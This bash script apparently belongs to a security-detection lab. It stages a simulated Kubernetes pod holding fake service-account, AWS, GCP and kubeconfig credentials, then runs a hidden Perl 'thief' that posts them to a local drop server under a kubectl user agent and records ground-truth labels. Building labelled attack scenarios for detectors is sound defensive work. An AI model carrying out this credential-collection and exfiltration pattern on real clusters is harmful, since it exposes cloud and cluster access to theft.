#!/bin/bash
# Scenario k8screds: credential theft in a Kubernetes-like pod. The container gets what a pod
# gets, as read-only bind mounts: a service-account token (a JWT), namespace and ca.crt at
# /var/run/secrets/kubernetes.io/serviceaccount, AWS credentials (AKIA... key) in /root/.aws,
# a GCP service-account key file (GOOGLE_APPLICATION_CREDENTIALS) and a kubeconfig, all made
# up for the run. Later a Perl script (not the workload) reads them all and POSTs them as JSON
# to 127.105.x.y:8443; the receiver reads the request and never answers, so the thief waits.
# Usage: lab/scenarios/k8screds.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init k8screds "$@"

DROP="$(lab_addr 105):$(lab_pick 8443 9443 10250)"
URL="http://$DROP/api/v1/namespaces/kube-system/configmaps"
UA="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
NS=$(lab_pick payments billing checkout)
SA=$NS-api
THIEF=/tmp/.kprobe-$(lab_hex 2)
lab_host_dir POD pods
mkdir -p "$POD/sa" "$POD/aws" "$POD/gcp" "$POD/kube"
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" --namespace "$NS" --sa "$SA" >/dev/null || lab_die "fakedata failed"
cp "$WORK/sec/token" "$WORK/sec/namespace" "$WORK/sec/ca.crt" "$POD/sa/"
cp "$WORK/sec/aws_credentials" "$POD/aws/credentials"
cp "$WORK/sec/gcp_sa.json" "$POD/gcp/key.json"
cp "$WORK/sec/kubeconfig" "$POD/kube/config"
lab_template "$SPEC/kprobe.pl" "$WORK/kprobe.pl" "URL=$URL" "UA=$UA"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read request --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod --env GOOGLE_APPLICATION_CREDENTIALS=/var/secrets/google/key.json \
    --env KUBERNETES_SERVICE_HOST=kubernetes.default.svc --env KUBERNETES_SERVICE_PORT=443 \
    -v "$POD/sa:/var/run/secrets/kubernetes.io/serviceaccount:ro" -v "$POD/aws:/root/.aws:ro" \
    -v "$POD/gcp:/var/secrets/google:ro" -v "$POD/kube:/root/.kube:ro" \
    --hostname "$(lab_json_pick "$WORK/sec/values.json" pod)" -- \
    sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/kprobe.pl" "$THIEF" 0700
lab_exec_bg "perl $THIEF"
lab_wait "drop server got the loot" 15 \
    lab_json "$WORK/peer-drop.json" 'd["sessions"] and d["sessions"][0]["requests"] and d["sessions"][0]["requests"][0].get("body_sha256")'

lab_finish "$THIEF" /var/run/secrets/kubernetes.io/serviceaccount/token /root/.aws/credentials \
    /var/secrets/google/key.json /root/.kube/config

lab_kv_json "$WORK/params.json" "drop=$DROP" "url=$URL" "user_agent=$UA" "thief_path=$THIEF" \
    "stolen_paths:=$(lab_json_list /var/run/secrets/kubernetes.io/serviceaccount/token \
        /var/run/secrets/kubernetes.io/serviceaccount/namespace /var/run/secrets/kubernetes.io/serviceaccount/ca.crt \
        /root/.aws/credentials /var/secrets/google/key.json /root/.kube/config)" \
    "secrets:=$(lab_json_pick "$WORK/sec/values.json" jwt jwt_sub namespace pod serviceaccount \
        aws_access_key_id aws_secret_access_key gcp_project gcp_client_email gcp_private_key_id)"
lab_facts --conn "thief=$DROP"
lab_truth --description "credential theft: perl $THIEF reads the service-account token, AWS, GCP and kubeconfig credentials and POSTs them to $URL" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
